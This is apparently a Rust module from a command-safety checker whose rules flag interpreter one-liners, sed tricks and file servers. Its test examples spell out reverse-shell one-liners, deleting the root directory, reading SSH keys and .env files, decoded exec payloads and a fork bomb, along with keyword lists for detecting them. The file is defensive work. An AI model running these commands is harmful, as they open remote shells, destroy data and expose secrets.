//! Programs that run code given to them in an option, in a script or by a file.

use super::Floor::{Ask, Deny, Sandbox};
use super::command::Command;
use super::shapes::Shape;
use crate::shell::{Arg, Shell};

/// Interpreters of programming languages, with the options that hold code. Versions follow the name.
const LANGUAGES: &[(&str, &str)] = &[
    ("python", "-c"),
    ("pypy", "-c"),
    ("perl", "-e -E"),
    ("ruby", "-e"),
    ("node", "-e -p --eval --print"),
    ("nodejs", "-e -p --eval --print"),
    ("deno", "-e --eval"),
    ("bun", "-e -p --eval --print"),
    ("php", "-r -B -R -E"),
    ("lua", "-e"),
    ("luajit", "-e"),
    ("osascript", "-e"),
    ("pwsh", "-c -Command -command -EncodedCommand -e"),
    ("Rscript", "-e"),
    ("tclsh", ""),
    ("expect", "-c"),
    ("ghc", "-e"),
    ("elixir", "-e --eval"),
    ("julia", "-e -E --eval"),
    ("guile", "-c"),
    ("jshell", ""),
    ("irb", "-e"),
    ("groovy", "-e"),
    ("scala", "-e"),
    ("erl", "-eval"),
    ("swift", "-e"),
];

/// Returns the options in which an interpreter takes code.
pub(super) fn language(name: &str) -> Option<&'static str> {
    let bare = name.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
    LANGUAGES.iter().find(|(language, _)| *language == bare || *language == name).map(|(_, options)| *options)
}

/// Whether a program runs text as commands or as code.
pub(super) fn is_interpreter(name: &str) -> bool {
    Shell::named(name).is_some()
        || matches!(name, "fish" | "csh" | "tcsh" | "nu" | "elvish" | "xonsh")
        || language(name).is_some()
}

/// Programs with inline code. Versions of python are named one by one, as programs are looked up by name.
pub(super) const CODED: &[&str] = &[
    "python",
    "python2",
    "python3",
    "python2.7",
    "python3.8",
    "python3.9",
    "python3.10",
    "python3.11",
    "python3.12",
    "python3.13",
    "python3.14",
    "pypy",
    "pypy3",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "deno",
    "bun",
    "php",
    "lua",
    "luajit",
    "osascript",
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "pwsh",
    "Rscript",
    "expect",
    "elixir",
    "julia",
    "groovy",
    "scala",
    "lua5.3",
    "lua5.4",
    "perl5",
    "ruby3.2",
];

pub(super) const SHAPES: &[Shape] = &[
    Shape {
        id: "code-shell",
        floor: Deny,
        programs: CODED,
        fires: |command| code(command).any(|code| has(code, SOCKETS) && has(code, SHELLS)),
        reason: "is code that connects to the network and starts a shell there",
        fix: "there is no safe form of this",
        matches: &[
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,1);exec(\"/bin/sh -i\");'",
            "php -r '$s=fsockopen(\"h\",1);exec(\"sh <&3 >&3\");'",
            "ruby -rsocket -e 'f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"sh -i <&%d\",f)'",
            "node -e 'require(\"net\").connect(1,\"h\",c=>{c.pipe(require(\"child_process\").spawn(\"sh\").stdin)})'",
            "awk 'BEGIN{s=\"/inet/tcp/0/h/1\";while(1){s|&getline c;system(c)}}'",
        ],
        clean: &[
            "python3 -c 'import socket; print(socket.gethostname())'",
            "echo 'socket os.dup2'",
            "python3 s.py",
        ],
    },
    Shape {
        id: "code-starts-programs",
        floor: Ask,
        programs: CODED,
        fires: |command| code(command).any(|code| has(code, STARTS)) || awk_code(command).any(awk_runs),
        reason: "is code that starts other programs, which cannot be seen",
        fix: "write the program as a command of its own, so that it can be judged",
        matches: &[
            "python3 -c 'import os; os.system(\"id\")'",
            "python -c 'import subprocess'",
            "perl -e 'system(\"id\")'",
            "perl -e 'print `id`'",
            "ruby -e 'exec \"id\"'",
            "node -e 'require(\"child_process\")'",
            "php -r 'shell_exec(\"id\");'",
            "awk 'BEGIN{system(\"id\")}'",
            "awk '{print | \"sh\"}' f",
            "awk 'BEGIN{\"id\"|getline x}'",
            "perl -ne 'qx(id)' f",
            "python3.12 -c '__import__(\"os\").popen(\"id\")'",
            "lua -e 'os.execute(\"id\")'",
            "osascript -e 'do shell script \"id\"'",
            "gawk -e 'BEGIN{system(\"id\")}'",
            "perl -e 'fork while 1'",
        ],
        clean: &[
            "python3 -c 'print(1)'",
            "awk '{print $1}' f",
            "node -e 'console.log(1)'",
            "awk '/system/ {print}' f",
            "perl -pe 's/a/b/' f",
            "awk -F'|' '{print $2}' f",
            "awk '{ if (a || b) print }' f",
        ],
    },
    Shape {
        id: "code-deletes",
        floor: Ask,
        programs: CODED,
        fires: |command| code(command).any(|code| has(code, DELETES)),
        reason: "is code that deletes or overwrites files, which cannot be seen",
        fix: "use rm with the names of the files, so that they can be judged",
        matches: &[
            "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
            "node -e 'fs.rmSync(\"/\",{recursive:true})'",
            "perl -e 'unlink glob(\"*\")'",
            "ruby -e 'FileUtils.rm_rf(\"x\")'",
        ],
        clean: &["python3 -c 'print(1)'", "echo shutil.rmtree"],
    },
    Shape {
        id: "code-reads-secrets",
        floor: Ask,
        programs: CODED,
        fires: |command| code(command).any(names_secret) || awk_code(command).any(names_secret),
        reason: "is code that names a file with secrets",
        fix: "read only what is needed, or ask a person",
        matches: &[
            "python3 -c \"print(open('.env').read())\"",
            "node -p \"fs.readFileSync('.env','utf8')\"",
            "ruby -e 'puts File.read(\"/root/.ssh/id_rsa\")'",
            "python3 -c 'import os;print(os.environ)'",
        ],
        clean: &["python3 -c 'print(\"environment\")'", "node -p 1"],
    },
    Shape {
        id: "code-hidden",
        floor: Ask,
        programs: CODED,
        fires: |command| code(command).any(|code| has(code, HIDING)),
        reason: "is code that decodes other code and runs it",
        fix: "write the code as it is",
        matches: &[
            "python3 -c 'exec(__import__(\"base64\").b64decode(\"aWQ=\"))'",
            "php -r 'eval(base64_decode(\"x\"));'",
            "node -e 'eval(atob(\"x\"))'",
            "perl -e 'eval pack(\"H*\",\"6964\")'",
        ],
        clean: &[
            "python3 -c 'import base64; print(base64.b64decode(\"aWQ=\"))'",
            "node -e 'console.log(atob(\"x\"))'",
        ],
    },
    Shape {
        id: "code-inline",
        floor: Sandbox,
        programs: CODED,
        fires: |command| code(command).next().is_some(),
        reason: "runs code that is written in the command",
        fix: "put the code into a file of the workspace, and run it in a sandbox",
        matches: &[
            "python3 -c 'print(1)'",
            "node -p 1+1",
            "perl -lane 'print'",
            "php -r 'echo 1;'",
            "ruby -e 'p 1'",
        ],
        clean: &["python3 x.py", "python3 -m json.tool", "node --version", "awk '{print $1}' f"],
    },
    Shape {
        id: "serve-files",
        floor: Ask,
        programs: &["python", "python3", "python2", "php", "ruby", "npx", "http-server", "serve"],
        fires: |command| match command.name {
            "python" | "python2" | "python3" => {
                command.texts("-m").any(|module| {
                    matches!(module, "http.server" | "SimpleHTTPServer" | "pyftpdlib" | "smtpd")
                }) && !command.says(&["127.0.0.1", "localhost"])
            }
            "php" => {
                command.says(&["-S"])
                    && command.known().any(|word| word.starts_with("0.0.0.0") || word.starts_with("[::]"))
            }
            "ruby" => command.known().any(|word| word == "-run") && command.says(&["httpd"]),
            "npx" => command.is_sub(&["http-server", "serve", "localtunnel"]),
            _ => true,
        },
        reason: "lets the network read the files of this folder",
        fix: "bind it to 127.0.0.1",
        matches: &["python3 -m http.server 8000", "php -S 0.0.0.0:80", "npx http-server"],
        clean: &["python3 -m http.server --bind 127.0.0.1", "php -S 127.0.0.1:80", "python3 -m json.tool"],
    },
    Shape {
        id: "stream-editor",
        floor: Ask,
        programs: &["sed", "gsed"],
        fires: |command| sed_scripts(command).any(|script| sed_does(script) == Some(Sed::Runs)),
        reason: "makes sed run a command",
        fix: "use sed only to change text, and add --sandbox",
        matches: &[
            "sed -e 'e ls' file",
            "sed '1e id' f",
            "sed 's/a/id/e' f",
            "sed -n 's/.*/id/gep' f",
            "sed --expression='$e id' f",
            "sed '/x/{e id' f",
        ],
        clean: &[
            "sed s/a/b/ f",
            "sed -ne '5p' file",
            "sed 's/h/H/'",
            "sed -n '/re/p' f",
            "sed 's/a/e/g' f",
            "sed --sandbox 's/a/b/e' f",
            "sed 'y/abe/xyz/' f",
        ],
    },
    Shape {
        id: "stream-editor-writes",
        floor: Ask,
        programs: &["sed", "gsed"],
        fires: |command| sed_scripts(command).any(|script| sed_does(script) == Some(Sed::Writes)),
        reason: "makes sed write a file that is named in its script",
        fix: "redirect the output of sed instead",
        matches: &[
            "sed -n 'w /etc/cron.d/evil' file",
            "sed 's/a/b/w out' f",
            "sed '1,$w x' f",
            "sed '/a/W x' f",
        ],
        clean: &["sed s/a/b/ f", "sed 's/w/x/' f", "sed -n '5p' w", "sed 's/^/w /' f"],
    },
    Shape {
        id: "code-from-file",
        floor: Ask,
        programs: &[
            "sed", "gsed", "awk", "gawk", "mawk", "nawk", "jq", "vim", "vi", "nvim", "ex", "ed", "gdb",
            "emacs", "m4", "bc",
        ],
        fires: |command| match command.name {
            "sed" | "gsed" => command.has("-f --file"),
            "awk" | "gawk" | "mawk" | "nawk" => command.has("-f --file -E --exec -i --include -l --load"),
            "jq" => command.has("-f --from-file -L"),
            "gdb" => command.says(&["-x", "--command", "-ex", "-eval-command", "--eval-command", "-iex"]),
            "vim" | "vi" | "nvim" | "ex" => {
                command.has("-s -S -u -W")
                    || command.known().any(|word| word.starts_with('+') && word.contains(['!', ':']))
                    || command.says(&["-c", "--cmd"])
            }
            "emacs" => command.says(&["--eval", "-eval", "--script", "-l", "--load", "-f", "--funcall"]),
            _ => false,
        },
        reason: "runs a script that cannot be seen here, in a language that can start programs",
        fix: "write the script in the command, or read it first",
        matches: &[
            "sed -f x f",
            "awk -f x.awk f",
            "vim -c ':!id' f",
            "gdb -ex 'shell id'",
            "emacs --batch --eval '(x)'",
            "jq -f x y",
        ],
        clean: &["sed 's/a/b/' f", "awk '{print}' f", "vim f", "gdb ./a.out", "jq .a f"],
    },
];

const SOCKETS: &[&str] = &[
    "socket",
    "Socket",
    "/inet/tcp",
    "/inet/udp",
    "net.connect",
    "(\"net\")",
    "('net')",
    "fsockopen",
    "TCPSocket",
    "pfsockopen",
];
const SHELLS: &[&str] = &[
    "dup2",
    "pty",
    "/bin/sh",
    "/bin/bash",
    "subprocess",
    "child_process",
    "exec",
    "system(",
    "spawn",
    "STDIN->fdopen",
];
const STARTS: &[&str] = &[
    "os.system",
    "os.exec",
    "os.spawn",
    "os.popen",
    "popen(",
    "subprocess",
    "child_process",
    "system(",
    "system ",
    "exec(",
    "exec ",
    "exec\"",
    "qx",
    "`",
    "fork",
    "shell_exec",
    "passthru",
    "proc_open",
    "pcntl_exec",
    "Open3",
    "spawn",
    "os.execute",
    "io.popen",
    "do shell script",
    "Deno.run",
    "Deno.Command",
    "pty.",
    "ctypes",
    "__import__(\"os\")",
    "__import__('os')",
    "Bun.spawn",
];
const DELETES: &[&str] = &[
    "rmtree",
    "unlink",
    "os.remove",
    "rmSync",
    "rmdirSync",
    "unlinkSync",
    "rm_rf",
    "rm_r",
    "os.rmdir",
    "FileUtils.rm",
    "remove_tree",
    "fs.rm(",
    "truncate(",
];
const HIDING: &[&str] = &[
    "exec(base64",
    "eval(base64_decode",
    "eval(atob",
    "eval(gzinflate",
    "eval pack",
    "eval(unescape",
    "exec(bytes",
    "exec(__import__",
    "exec(compile",
    "eval(compile",
    "eval(Buffer",
    "exec(zlib",
    "eval(str_rot13",
    "marshal.loads",
    "pickle.loads",
    "eval decode_base64",
    "eval(String.fromCharCode",
    "exec(codecs",
];

fn has(code: &str, needles: &[&str]) -> bool {
    needles.iter().any(|needle| code.contains(needle))
}

/// The code in the options of an interpreter.
fn code<'c>(command: &'c Command<'_, '_>) -> impl Iterator<Item = &'c str> {
    let options = language(command.name).unwrap_or_default();
    // The code of python is the word after the cluster that ends in `c`.
    command.texts(options).chain(awk_code(command).filter(|code| code.contains("/inet/")))
}

/// The script of awk: the first operand, unless options hold it.
fn awk_code<'c>(command: &'c Command<'_, '_>) -> impl Iterator<Item = &'c str> {
    let is_awk = matches!(command.name, "awk" | "gawk" | "mawk" | "nawk");
    let operand = command.operand(0).filter(|_| is_awk && !command.has("-f --file -e --source -E --exec"));
    command.texts("-e --source").filter(move |_| is_awk).chain(operand)
}

/// Whether a script of awk starts a program or writes a file: `system()`, a pipe that is no `||`, or `print >`.
fn awk_runs(script: &str) -> bool {
    let bare = without_strings(script);
    let pipe = bare.replace("||", "").replace("|&", "|").contains('|');
    let called = bare
        .match_indices("system")
        .any(|(at, word)| bare.get(at + word.len()..).is_some_and(|rest| rest.trim_start().starts_with('(')));
    let writes = bare.split([';', '}', '\n']).any(|statement| {
        let after = statement.find("print").and_then(|at| statement.get(at..)).unwrap_or_default();
        after.contains('>') && !after.contains('(')
    });
    pipe || called || writes
}

/// Removes `"…"` and `/…/`.
fn without_strings(script: &str) -> String {
    let mut bare = String::with_capacity(script.len());
    let mut inside = None;
    let mut protected = false;
    for letter in script.chars() {
        match inside {
            Some(end) => {
                if letter == end && !protected {
                    inside = None;
                }
                protected = letter == '\\' && !protected;
            }
            None if letter == '"' => inside = Some('"'),
            // A slash after a value divides; anywhere else it begins a pattern.
            None if letter == '/' && begins_pattern(&bare) => inside = Some('/'),
            None => bare.push(letter),
        }
    }
    bare
}

fn begins_pattern(before: &str) -> bool {
    before.trim_end().chars().next_back().is_none_or(|letter| "({,;!~&|".contains(letter))
}

/// Whether code names a file that holds secrets, in quotes.
fn names_secret(code: &str) -> bool {
    let names = code.split(['\'', '"', '`', '(', ')', ' ', '\n', '<']).filter(|name| name.len() > 3);
    names.into_iter().any(|name| super::files::is_secret(&Arg::Known(name.into())))
        || ["os.environ", "process.env)", "process.env,", "ENV.to_h", "$_ENV", "%ENV"].iter().any(|whole| {
            code.match_indices(whole)
                .any(|(at, _)| !code.get(at + whole.len()..).is_some_and(|rest| rest.starts_with(['[', '.'])))
        })
}

/// The scripts of sed: the first operand, unless options hold them.
fn sed_scripts<'c>(command: &'c Command<'_, '_>) -> impl Iterator<Item = &'c str> {
    let sandboxed = command.has("--sandbox");
    let operand = command.operand(0).filter(|_| !command.has("-e --expression -f --file"));
    command.texts("-e --expression").chain(operand).filter(move |_| !sandboxed)
}

/// What a script of sed does beside changing text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sed {
    Runs,
    Writes,
}

/// Reads a script of sed as far as needed to tell its commands from its texts.
fn sed_does(script: &str) -> Option<Sed> {
    let mut rest = script;
    while !rest.is_empty() {
        rest = after_address(rest);
        let letter = rest.chars().next()?;
        let after = rest.get(letter.len_utf8()..).unwrap_or_default();
        match letter {
            'e' => return Some(Sed::Runs),
            'w' | 'W' => return Some(Sed::Writes),
            's' => {
                let after = after_delimited(after, 2)?;
                let end = after.find([';', '\n', '}', ' ']).unwrap_or(after.len());
                let flags = after.get(..end).unwrap_or_default();
                if flags.contains('e') {
                    return Some(Sed::Runs);
                }
                if flags.contains('w') {
                    return Some(Sed::Writes);
                }
                rest = after.get(end..).unwrap_or_default();
            }
            'y' => rest = after_delimited(after, 2)?,
            // The text of these ends with the line.
            'a' | 'i' | 'c' | 'r' | 'R' | ':' | '#' | 'b' | 't' | 'T' => {
                rest = after.split_once('\n').map_or("", |(_, rest)| rest);
            }
            _ => rest = after,
        }
    }
    None
}

/// Skips spaces and the address before a command.
fn after_address(script: &str) -> &str {
    let mut rest = script;
    loop {
        rest = rest.trim_start_matches(|letter: char| {
            letter.is_whitespace()
                || letter.is_ascii_digit()
                || matches!(letter, ';' | '{' | '}' | ',' | '$' | '!' | '~' | '+')
        });
        let slashed = match rest.chars().next() {
            Some('/') => rest.get(1..).map(|rest| (rest, '/')),
            Some('\\') => rest.get(1..).and_then(|rest| {
                let end = rest.chars().next()?;
                Some((rest.get(end.len_utf8()..)?, end))
            }),
            _ => None,
        };
        let Some((inside, end)) = slashed else { return rest };
        rest = after_end(inside, end).unwrap_or_default().trim_start_matches(['I', 'M']);
    }
}

/// Returns what follows `count` texts between delimiters, the first of which begins here.
fn after_delimited(text: &str, count: usize) -> Option<&str> {
    let end = text.chars().next()?;
    let mut rest = text.get(end.len_utf8()..)?;
    for _ in 0..count {
        rest = after_end(rest, end)?;
    }
    Some(rest)
}

/// Returns what follows the first `end` that no backslash protects.
fn after_end(text: &str, end: char) -> Option<&str> {
    let mut protected = false;
    for (at, letter) in text.char_indices() {
        if letter == end && !protected {
            return text.get(at + letter.len_utf8()..);
        }
        protected = letter == '\\' && !protected;
    }
    None
}
